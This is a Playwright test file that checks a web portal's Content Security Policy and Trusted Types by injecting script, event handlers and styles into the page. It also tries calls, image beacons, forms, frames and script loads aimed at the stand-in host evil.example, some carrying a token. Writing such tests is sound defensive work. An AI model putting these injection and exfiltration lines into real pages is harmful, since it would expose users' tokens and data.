// Verifies SEC-1.
import { expect, test, type Page } from '@playwright/test';
import { open } from './support/settled';
import { watchPolicy, type Watch } from './support/watchPolicy';

/** The document, as an attacker who can write into it would have it. */
async function openTampered(page: Page, tamper: { html: string; without?: 'header' | 'meta' }): Promise<Watch> {
  const watch = await watchPolicy(page);
  await page.route('**/mediareact/request-procedure', async (route) => {
    // The service worker's own request for the page needs no tampering.
    if (!route.request().isNavigationRequest()) return route.continue();
    const answer = await route.fetch();
    const headers = answer.headers();
    if (tamper.without === 'header') delete headers['content-security-policy'];
    const html = (await answer.text()).replace('</body>', `${tamper.html}</body>`);
    const body =
      tamper.without === 'meta' ? html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '') : html;
    await route.fulfill({ status: 200, headers, body });
  });
  await open(page, '/mediareact/request-procedure');
  return watch;
}

const planted = (page: Page): Promise<unknown> =>
  page.evaluate(() => (window as unknown as { planted?: unknown }).planted);

for (const without of [undefined, 'header', 'meta'] as const) {
  const how = without === undefined ? '' : ` even when the document comes without its ${without}`;

  test(`an injected script, handler, and HTML string are blocked${how}`, async ({ page }) => {
    const html =
      '<script>window.planted = 1</script><img src="/mediareact/none.png" alt="" onerror="window.planted = 1">';
    const watch = await openTampered(page, { html, ...(without && { without }) });
    expect(watch.refused.join()).toContain('script-src-elem: inline');
    expect(watch.refused.join()).toContain('script-src-attr: inline');
    const thrown = await page.evaluate(() => {
      try {
        document.body.innerHTML = '<b>planted</b>';
        return 'nothing';
      } catch (error) {
        return String(error);
      }
    });
    expect(thrown).toContain('TypeError');
    expect(await planted(page)).toBeUndefined();
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    await expect.poll(() => watch.refused.join()).toContain('require-trusted-types-for: trusted-types-sink');
  });
}

test('an injected style block is blocked', async ({ page }) => {
  const watch = await openTampered(page, { html: '<style>body { display: none }</style>' });
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  expect(watch.refused.join()).toContain('style-src-elem: inline');
});

/** What a script that got in could still try, and what stops it. */
const attempts: { name: string; directive: string; attempt: () => void }[] = [
  {
    name: 'code made of a string',
    directive: 'require-trusted-types-for',
    // eslint-disable-next-line @typescript-eslint/no-implied-eval -- exactly this must be refused
    attempt: () => void setTimeout('window.planted = 1'),
  },
  {
    name: 'a script of another origin',
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.createElement('script').src = 'https://evil.example/x.js';
    },
  },
  {
    name: "an answer of the portal's own API as a script",
    directive: 'require-trusted-types-for',
    attempt: () => {
      document.createElement('script').src = '/mediareact/api/org/types';
    },
  },
  {
    name: 'a second policy for strings',
    directive: 'trusted-types',
    attempt: () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy: (name: string, rules: object) => void };
      };
      trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
    },
  },
  {
    name: 'a call to another origin',
    directive: 'connect-src',
    attempt: () => void fetch('https://evil.example/?token=1').catch(() => undefined),
  },
  {
    name: 'a picture of another origin',
    directive: 'img-src',
    attempt: () => {
      new Image().src = 'https://evil.example/?token=1';
    },
  },
  {
    name: 'a form to another origin',
    directive: 'form-action',
    attempt: () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    },
  },
  {
    name: 'another base for links',
    directive: 'base-uri',
    attempt: () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
    },
  },
  {
    name: 'an embedded page',
    directive: 'frame-src',
    attempt: () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/';
      document.body.append(frame);
    },
  },
  {
    name: 'a style attribute',
    directive: 'style-src-attr',
    attempt: () => {
      document.body.setAttribute('style', 'display: none');
    },
  },
];

test('an injected script can do nothing', async ({ page }) => {
  const watch = await openTampered(page, { html: '' });
  for (const { name, directive, attempt } of attempts) {
    await test.step(name, async () => {
      watch.refused.length = 0;
      await page.evaluate(attempt).catch(() => undefined);
      await expect.poll(() => watch.refused.some((refusal) => refusal.startsWith(`${directive}:`)), name).toBe(true);
    });
  }
  expect(await planted(page)).toBeUndefined();
  expect(page.url()).toContain('/mediareact/request-procedure');
});

// translated.spec.ts uses every screen of the portal under the policy.
test('the embedded server’s own pages cause no violation', async ({ page }) => {
  const watch = await watchPolicy(page);
  const pages = ['/outbox', '/faults', '/association', '/association/media/uploads', '/association/mascots/a.svg'];
  for (const address of pages) await page.goto(address, { waitUntil: 'networkidle' });
  expect(watch).toEqual({ refused: [], errors: [] });
});

test('no page can frame the portal', async ({ page }) => {
  await page.route('**/framing.html', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<iframe src="/mediareact/login"></iframe>' }),
  );
  await page.goto('/framing.html', { waitUntil: 'networkidle' });
  await expect(page.frameLocator('iframe').getByRole('heading', { level: 1 })).toHaveCount(0);
});
